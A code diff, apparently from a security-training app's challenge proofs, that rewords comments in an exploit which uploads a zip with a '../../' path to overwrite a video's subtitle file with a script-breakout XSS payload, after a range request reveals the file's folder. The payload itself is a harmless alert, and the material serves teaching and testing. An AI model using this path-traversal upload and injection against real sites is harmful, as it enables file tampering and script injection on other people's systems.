@@ -7,13 +7,13 @@ const CODE = 'alert(`xss`)'
 const PAYLOAD = `</script><script>${CODE}</script>`
 const HONEST = 'WEBVTT\n\n00:00.000 --> 00:02.000\nAn apple falls.\n'
 
-/** Puts a text in place of the subtitles. @param entry name of the file in the archive */
+/** Overwrites the subtitles with a text. @param entry file name in the archive */
 function overwrite(attacker: Attacker, text: string, entry = `../../${VIDEOS}/owasp_promo.vtt`) {
   const form = new FormData()
   form.append('file', new Blob([zipArchive({ [entry]: text })], { type: 'application/zip' }), 'subtitles.zip')
   return attacker.post('/file-upload', form)
 }
-/** Puts a text in place of the subtitles, and looks at the film. */
+/** Overwrites the subtitles with a text and requests the promotion page. */
 const show =
   (text: string, entry?: string): Attack =>
   async (attacker) => {
@@ -24,7 +24,7 @@ const show =
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
     await attacker.get('/promotion')
-    // A part of the film tells where its file lies.
+    // The response to a range request shows the folder of the file.
     await attacker.get('/video', { headers: { range: 'bytes=0-99' } })
     await show(PAYLOAD)(attacker)
   },
